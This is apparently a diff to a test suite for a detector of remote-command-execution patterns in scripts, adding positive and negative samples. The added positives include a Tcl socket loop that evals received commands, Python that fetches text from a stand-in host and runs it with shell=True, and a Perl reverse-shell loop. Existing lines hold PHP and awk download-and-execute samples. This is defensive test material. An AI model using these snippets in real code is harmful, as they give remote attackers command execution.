@@ -76,6 +76,26 @@ const HITS: readonly (readonly [ScriptLanguage, (typeof ASKED)[number], string])
   ['php', 'runs_what_it_fetched', "<?php copy('http://files.example/a', '/tmp/.a'); exec('/tmp/.a &');"],
   ['shell', 'answer_evaluated', 'BEGIN { while (("curl -s http://c.example/a" | getline l) > 0) system(l) }'],
   ['source', 'answer_evaluated', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", URL(u).readText()))'],
+  [
+    'shell',
+    'runs_commands_from_socket',
+    'set s [socket c.example 443]\nwhile {[gets $s order(next)] >= 0} {\n  eval $order(next)\n}',
+  ],
+  [
+    'shell',
+    'runs_commands_from_socket',
+    'set s [socket c.example 443]\ngets $s line\nset name [lindex $line 0]\neval [list $name $s]',
+  ],
+  [
+    'python',
+    'answer_evaluated',
+    "c = requests.get('https://c.example/a').text\nsubprocess.Popen(c, stdout=log, env=env, shell=True)",
+  ],
+  [
+    'perl',
+    'runs_commands_from_socket',
+    'socket(S, PF_INET, SOCK_STREAM, 0);\nconnect(S, $to);\nwhile ($l = <S>) {\n  print S `$l`;\n}',
+  ],
 ]
 for (const [language, id, text] of HITS)
   test(`${language}: ${id}: ${text.split('\n')[0]}`, () =>
@@ -101,6 +121,25 @@ const MISSES: readonly (readonly [ScriptLanguage, string])[] = [
   [
     'source',
     'resp, _ := http.Get(u)\nb, _ := io.ReadAll(resp.Body)\nfmt.Println(string(b))\nexec.Command("git", "status").Run()',
+  ],
+  // What is called back stands in the same array as what came, or is handed it.
+  [
+    'shell',
+    'set s [socket $host 80]\ngets $s state(http)\nset state(-progress) $given\neval $state(-progress) [list $state(http)]\neval [linsert $state(-progress) end $state(http)]',
+  ],
+  [
+    'python',
+    "r = requests.get('https://c.example/a')\nenv = {'TOKEN': r.text}\nsubprocess.Popen(['make', 'all'], env=env, **kwargs)",
+  ],
+  [
+    'python',
+    "r = requests.get('https://c.example/a').json()\nfound = Package(name=r['name'])\nsubprocess.run([name, '--version'])",
+  ],
+  ['python', "r = requests.get('https://c.example/a').json()\nnames.append(r['name'])\nos.system(names[0])"],
+  // A message names the module; what is read is a file.
+  [
+    'perl',
+    'print "You may need IO::Socket::SSL for that URL.";\nopen(F, $log);\nwhile ($l = <F>) { print `date` . `wc $l` }',
   ],
 ]
 for (const [language, text] of MISSES)
